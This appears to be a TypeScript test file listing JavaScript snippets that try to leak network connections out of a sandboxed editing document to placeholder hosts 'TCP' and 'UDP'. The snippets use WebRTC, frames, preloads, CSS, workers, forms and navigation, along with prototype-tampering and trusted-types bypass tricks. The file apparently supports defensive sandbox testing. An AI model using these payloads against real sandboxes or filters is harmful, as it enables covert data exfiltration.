/** Ways out of the document of edited code: JavaScript of an async function, `TCP` and `UDP` being addresses. */
export const LEAKS: Record<string, string> = {
  'a peer connection': rtc('window'),
  'a peer connection of an empty frame': `
    const f = document.createElement('iframe'); document.body.append(f); ${rtc('f.contentWindow')}`,
  'a peer connection of a frame in markup': `
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); ${rtc('window[window.length - 1]')}`,
  'a peer connection of a frame of SVG': `
    const d = document.createElement('div'); document.body.append(d);
    d.innerHTML = '<svg><foreignObject><IFRAME></IFRAME></foreignObject></svg>'; ${rtc('window[0]')}`,
  'a frame with a script of its own': inFrame('<script>', '</script>'),
  'a frame with a handler': inFrame('<img src=x onerror="', '">'),
  'a frame with a meta element': inFrame(
    '<meta http-equiv="Content-Security-Policy" content=""><script>',
    '</script>',
  ),
  'a frame with a link': `
    const f = document.createElement('iframe');
    f.srcdoc = '<link rel=preconnect href="http://TCP/"><link rel=stylesheet href="http://TCP/"><img src="http://TCP/">';
    document.body.append(f);`,
  'a frame at a JavaScript address': `
    const f = document.createElement('iframe');
    f.src = 'javascript:' + ${JSON.stringify(rtc('window'))}; document.body.append(f);`,
  'a frame elsewhere': `
    const f = document.createElement('iframe'); f.src = 'http://TCP/'; document.body.append(f);`,
  'a frame of XML': `
    const x = new DOMParser().parseFromString('<a xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://TCP/"/></a>', 'application/xhtml+xml');
    document.body.append(document.adoptNode(x.documentElement)); ${rtc('window[0]')}`,
  'a frame of an entity': `
    const x = new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>">]><a>&e;</a>', 'text/xml');
    document.body.append(document.adoptNode(x.documentElement)); ${rtc('window[0]')}`,
  'a frame with another prefix': `
    document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'a:iframe')); ${rtc('window[0]')}`,
  'a frame of another document': `
    const { documentElement: f } = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe', null);
    document.body.append(f); ${rtc('f.contentWindow')}`,
  'a frame by document.write': `document.write('<ifr'); document.write('ame></iframe>'); ${rtc('window[0]')}`,
  'an object': `const o = document.createElement('object'); o.data = 'http://TCP/'; document.body.append(o);`,
  'an embed': `document.body.insertAdjacentHTML('beforeend', '<embed src="http://TCP/">');`,
  'a window': `window.open('http://TCP/');`,
  'an empty window': `const w = window.open(''); ${rtc('w')}`,
  ...Object.fromEntries(
    ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon']
      .concat(['manifest', 'prerender', 'compression-dictionary', 'apple-touch-icon', 'expect'])
      .map((rel) => [
        `a link ${rel}`,
        `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'http://TCP/${rel}';
         document.head.append(l);
         document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as="image" href="http://TCP/markup">');`,
      ]),
  ),
  'a custom element that is a link': `
    customElements.define('a-link', class extends HTMLLinkElement {}, { extends: 'link' });
    const l = document.createElement('link', { is: 'a-link' }); l.rel = 'preconnect'; l.href = 'http://TCP/';
    document.head.append(l);`,
  'a link of another document': `
    const { documentElement: l } = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'a:link', null);
    ${preconnect('l')}`,
  'a link whose name changes': `
    let n = 0; const l = document.createElement({ toString: () => (n++ ? 'link' : 'p') }); ${preconnect('l')}`,
  'links while what reads their names is another': [
    `RegExp.prototype, 'exec', { value: () => null }`,
    `RegExp.prototype, 'test', { value: () => false }`,
    `RegExp.prototype, 'flags', { get: () => '' }`,
    `RegExp.prototype, Symbol.replace, { value: (text) => text }`,
    `String.prototype, 'replace', { value: String.prototype.toString }`,
    `Array.prototype, 'slice', { value: () => ['link'] }`,
    `window, 'String', { value: () => 'p' }`,
  ]
    .map((change) =>
      changed(
        change,
        `const l = document.createElement('link'); ${preconnect('l')}
         document.head.insertAdjacentHTML('beforeend', '<link><link rel=preconnect href="http://TCP/">');`,
      ),
    )
    .join('\n'),
  'a link by what Reflect.apply is handed': `
    let make;
    ${changed(`Reflect, 'apply', { value: (method) => { make ??= method; } }`, `document.createElement('p');`)}
    if (make) { const l = make.call(document, 'link'); ${preconnect('l')} }`,
  'a policy of its own': `
    const p = trustedTypes.createPolicy('own', { createHTML: (text) => text });
    document.head.insertAdjacentHTML('beforeend', p.createHTML('<link rel=preconnect href="http://TCP/">'));`,
  'a command of the editor': `
    document.body.contentEditable = 'true'; getSelection().selectAllChildren(document.body); getSelection().collapseToEnd();
    document.execCommand('insertHTML', false, '<iframe></iframe><link rel=preconnect href="http://TCP/">');
    document.body.contentEditable = 'inherit';`,
  'speculation rules': `
    const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = '{"prefetch":[{"source":"list","urls":["http://TCP/"]}]}'; document.head.append(s);`,
  'a meta refresh': `
    document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://TCP/">');
    const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://TCP/'; document.head.append(m);`,
  'a style with addresses': `
    const s = document.createElement('style');
    s.textContent = '@import url("http://TCP/import"); @font-face { font-family: leak; src: url("http://TCP/font"); } body { background: url("http://TCP/image"); font-family: leak; cursor: url("http://TCP/cursor"), auto; }';
    document.head.append(s); document.body.append('text');`,
  'a style of an element': `document.body.style.backgroundImage = 'image-set("http://TCP/a" 1x)'; document.body.style.filter = 'url(http://TCP/a#f)';`,
  'a font': `await new FontFace('leak', 'url(http://TCP/font)').load();`,
  pictures: `
    new Image().src = 'http://TCP/image';
    document.body.insertAdjacentHTML('beforeend', '<img srcset="http://TCP/set 1x"><video poster="http://TCP/poster" src="http://TCP/video"></video><audio src="http://TCP/audio" autoplay></audio><input type="image" src="http://TCP/input"><svg><image href="http://TCP/svg"/><use href="http://TCP/use#a"/><filter><feImage href="http://TCP/fe"/></filter></svg><table background="http://TCP/table"></table><track src="http://TCP/track">');`,
  fetch: `await fetch('http://TCP/', { mode: 'no-cors' });`,
  'fetch that is kept alive': `await fetch('http://TCP/', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });`,
  fetchLater: `fetchLater('http://TCP/', { activateAfter: 0 });`,
  'a request': `const x = new XMLHttpRequest(); x.open('GET', 'http://TCP/'); x.send();`,
  'a beacon': `navigator.sendBeacon('http://TCP/', 'x');`,
  'a web socket': `new WebSocket('ws://TCP/');`,
  'a web socket as a stream': `await new WebSocketStream('ws://TCP/').opened;`,
  'server-sent events': `new EventSource('http://TCP/');`,
  'web transport': `await new WebTransport('https://UDP/').ready;`,
  'a worker': `new Worker('data:text/javascript,fetch("http://TCP/")');`,
  'a worker of a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("http://TCP/",{mode:"no-cors"})'], { type: 'text/javascript' })));`,
  'a shared worker': `new SharedWorker('data:text/javascript,fetch("http://TCP/")');`,
  'a service worker': `await navigator.serviceWorker.register('/sw.js');`,
  'a worklet': `await CSS.paintWorklet.addModule('http://TCP/');`,
  'an audio worklet': `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('http://TCP/');`,
  'a script': `const s = document.createElement('script'); s.src = 'http://TCP/'; document.head.append(s);`,
  'a script in the document': `
    const s = document.createElement('script'); s.textContent = 'new Image().src = "http://TCP/"'; document.head.append(s);`,
  'an import': `await import('http:' + '//TCP/');`,
  'a form': `
    document.body.insertAdjacentHTML('beforeend', '<form action="http://TCP/" method="post"></form>');
    HTMLFormElement.prototype.submit.call(document.forms[document.forms.length - 1]);`,
  'a form for the window': `
    document.body.insertAdjacentHTML('beforeend', '<form action="http://TCP/" target="_top"><button></button></form>');
    HTMLFormElement.prototype.submit.call(document.forms[document.forms.length - 1]);`,
  'a link to another window': `
    const a = document.createElement('a'); a.href = 'http://TCP/'; a.target = '_blank'; document.body.append(a); a.click();`,
  'a link to the top': `
    const a = document.createElement('a'); a.href = 'http://TCP/'; a.target = '_top'; document.body.append(a); a.click();`,
  'a link with a ping': `
    const a = document.createElement('a'); a.href = '#a'; a.ping = 'http://TCP/'; document.body.append(a); a.click();`,
  'a download': `
    const a = document.createElement('a'); a.href = 'http://TCP/'; a.download = 'a'; document.body.append(a); a.click();`,
  'the window': `top.location.href = 'http://TCP/';`,
  'the frame around': `parent.location.href = 'http://TCP/';`,
  'a policy that reports': `
    document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri http://TCP/">');
    new Image().src = 'data:image/png,';`,
  'a payment': `await new PaymentRequest([{ supportedMethods: 'http://TCP/' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
  'text as code': `new Function('new Image().src = "http://TCP/"; ' + ${JSON.stringify(rtc('window'))})();`,
  'a font that is added': `const f = new FontFace('leak', 'url(http://TCP/added)'); document.fonts.add(f); await document.fonts.load('12px leak', 'a');`,
  'a sheet that is constructed': `
    const s = new CSSStyleSheet();
    s.replaceSync('@font-face { font-family: built; src: url("http://TCP/built"); } body { font-family: built; mask: url("http://TCP/mask"); border-image: url("http://TCP/border") 1; list-style-image: url("http://TCP/list"); } body::after { content: url("http://TCP/content"); }');
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, s];
    await s.replace('@import url("http://TCP/import");').catch(() => undefined);`,
  'a rule that is inserted': `
    const s = document.createElement('style'); document.head.append(s);
    s.sheet.insertRule('body { background: image-set("http://TCP/set" 1x); clip-path: url("http://TCP/clip#a"); offset-path: url("http://TCP/offset#a"); }');
    try { s.sheet.insertRule('@import "http://TCP/late"'); } catch {}
    s.sheet.insertRule('@namespace a "http://TCP/namespace"');`,
  'a style as a typed value': `document.body.attributeStyleMap.set('background-image', CSSStyleValue.parse('background-image', 'url(http://TCP/typed)'));`,
  'a variable of an address': `
    CSS.registerProperty({ name: '--leak', syntax: '<url>', inherits: true, initialValue: 'url(http://TCP/registered)' });
    document.body.style.setProperty('--leak', 'url(http://TCP/variable)'); document.body.style.backgroundImage = 'var(--leak)';`,
  'SVG of every kind': `
    document.body.insertAdjacentHTML('beforeend', '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><style>@import url(http://TCP/style);rect{fill:url(http://TCP/fill#a)}</style><script href="http://TCP/script"></scr'+'ipt><image xlink:href="http://TCP/xlink"/><use xlink:href="http://TCP/xuse#a"/><rect width="9" height="9" style="filter:url(http://TCP/filter#a)" mask="url(http://TCP/mask#a)"/><text><textPath href="http://TCP/path#a">a</textPath></text><pattern id="p" href="http://TCP/pattern#a"/><image id="i"><set attributeName="href" to="http://TCP/set"/><animate attributeName="href" values="http://TCP/animate;http://TCP/b" dur="1s"/></image><foreignObject><img src="http://TCP/foreign"></foreignObject></svg>');
    const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttributeNS('http://www.w3.org/1999/xlink', 'href', 'http://TCP/made');
    const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); v.append(i); document.body.append(v);
    const c = document.createElementNS('http://www.w3.org/2000/svg', 'script'); c.setAttribute('href', 'http://TCP/made-script'); v.append(c);`,
  'a picture of SVG that loads': `
    const text = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://TCP/inner"/><style>@import url(http://TCP/inner-style);</style></svg>';
    new Image().src = 'data:image/svg+xml,' + encodeURIComponent(text);
    const i = new Image(); i.src = URL.createObjectURL(new Blob([text], { type: 'image/svg+xml' })); document.body.append(i);`,
  MathML: `document.body.insertAdjacentHTML('beforeend', '<math><mtext href="http://TCP/math"><img src="http://TCP/text"></mtext><annotation-xml encoding="text/html"><iframe src="http://TCP/annotation"></iframe><link rel="preconnect" href="http://TCP/"></annotation-xml><mglyph src="http://TCP/glyph"></mglyph></math>');`,
  sound: `
    const a = new Audio('http://TCP/audio'); a.preload = 'auto'; a.load(); void a.play().catch(() => undefined);
    const v = document.createElement('video'); v.innerHTML = '<source src="http://TCP/source"><track default kind="captions" src="http://TCP/captions">'; document.body.append(v); v.load();
    v.textTracks[0] && (v.textTracks[0].mode = 'showing');
    const c = new AudioContext(); c.createMediaElementSource(new Audio('http://TCP/node'));`,
  'a picture of the system': `navigator.mediaSession.metadata = new MediaMetadata({ title: 'a', artwork: [{ src: 'http://TCP/artwork' }] });`,
  'a source of a picture': `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="http://TCP/source 1x"><img src="http://TCP/fallback" loading="eager" attributionsrc="http://TCP/attribution"></picture><body background="http://TCP/body">');`,
  'an address of attribution': `
    const i = new Image(); i.attributionSrc = 'http://TCP/attribution'; i.src = 'data:image/png,'; document.body.append(i);
    await fetch('http://TCP/', { attributionReporting: { eventSourceEligible: true, triggerEligible: false }, mode: 'no-cors' });`,
  'a worklet of shared storage': `await sharedStorage.worklet.addModule('http://TCP/'); await sharedStorage.createWorklet('http://TCP/');`,
  'groups of interest': `await navigator.joinAdInterestGroup({ owner: 'https://TCP', name: 'a', biddingLogicURL: 'https://TCP/' }, 9); await navigator.runAdAuction({ seller: 'https://TCP', decisionLogicURL: 'https://TCP/' });`,
  'somebody who says who the reader is': `await navigator.credentials.get({ identity: { providers: [{ configURL: 'http://TCP/', clientId: 'a' }] } });`,
  'a key of another site': `await navigator.credentials.create({ publicKey: { rp: { id: 'TCP', name: 'a' }, user: { id: new Uint8Array(1), name: 'a', displayName: 'a' }, challenge: new Uint8Array(1), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } });`,
  'a screen elsewhere': `await new PresentationRequest('http://TCP/').start();`,
  'a notification with a picture': `new Notification('a', { icon: 'http://TCP/icon', image: 'http://TCP/image' });`,
  'what is shared': `await navigator.share({ url: 'http://TCP/' });`,
  'an entry of the history': `history.pushState(null, '', 'http://TCP/'); history.replaceState(null, '', '//TCP/');`,
  'a button with an address': `
    document.body.insertAdjacentHTML('beforeend', '<form><button formaction="http://TCP/" formmethod="get" formtarget="_blank">a</button><input type="image" formaction="http://TCP/" src="data:image/png,"></form>');
    document.querySelector('[formaction]').click(); document.querySelector('input[formaction]').click();`,
  'a link of SVG to another window': `
    document.body.insertAdjacentHTML('beforeend', '<svg><a id="leak-svg" href="http://TCP/" target="_blank"><text>a</text></a></svg>');
    document.getElementById('leak-svg').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));`,
  'what is asked of a form': `
    document.body.insertAdjacentHTML('beforeend', '<form action="http://TCP/"><button></button></form>');
    document.forms[document.forms.length - 1].requestSubmit();`,
  'an application of the system': `location.href = 'mailto:a@TCP'; window.open('tel:1');`,
  // These come last: they may take the document away.
  'itself by script': `location.href = 'javascript:' + ${JSON.stringify(`'<script>${rtc('window').replaceAll("'", '"')}</' + 'script>'`)};`,
  'itself with the navigation API': `navigation.navigate('http://TCP/');`,
  'itself by an area': `
    document.body.insertAdjacentHTML('beforeend', '<map name="m"><area shape="default" href="http://TCP/"></map><img usemap="#m" src="data:image/png,">');
    document.querySelector('area').click();`,
  'itself by a link of SVG': `
    document.body.insertAdjacentHTML('beforeend', '<svg><a id="leak-self"><set attributeName="href" to="http://TCP/"/><text>a</text></a></svg>');
    setTimeout(() => document.getElementById('leak-self').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })), 100);`,
  itself: `location.href = 'http://TCP/'; location.replace('http://TCP/'); location.assign('//TCP/');`,
};

function preconnect(link: string): string {
  return `${link}.rel = 'preconnect'; ${link}.href = 'http://TCP/'; document.head.append(${link});`;
}

/** Does something while a property is another one: its owner, its name and its descriptor. */
function changed(property: string, then: string): string {
  return `{
    const { defineProperty } = Object;
    const change = (owner, name, descriptor) => {
      const before = Object.getOwnPropertyDescriptor(owner, name);
      defineProperty(owner, name, { ...descriptor, configurable: true });
      return () => defineProperty(owner, name, before);
    };
    const restore = change(${property});
    try { ${then} } finally { restore(); }
  }`;
}

function rtc(owner: string): string {
  return `{ const c = new (${owner}).RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel('a'); c.createOffer().then((o) => c.setLocalDescription(o)); }`;
}

/** In a frame whose markup is given, code that opens a connection. */
function inFrame(before: string, after: string): string {
  const code = `new Image().src='http://TCP/'; ${rtc('window')}`.replaceAll('"', "'");
  const markup = JSON.stringify(before + code + after).replaceAll('</script>', '</scr"+"ipt>');
  return `const f = document.createElement('iframe'); f.srcdoc = ${markup}; document.body.append(f);
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); document.body.lastChild.srcdoc = ${markup};`;
}
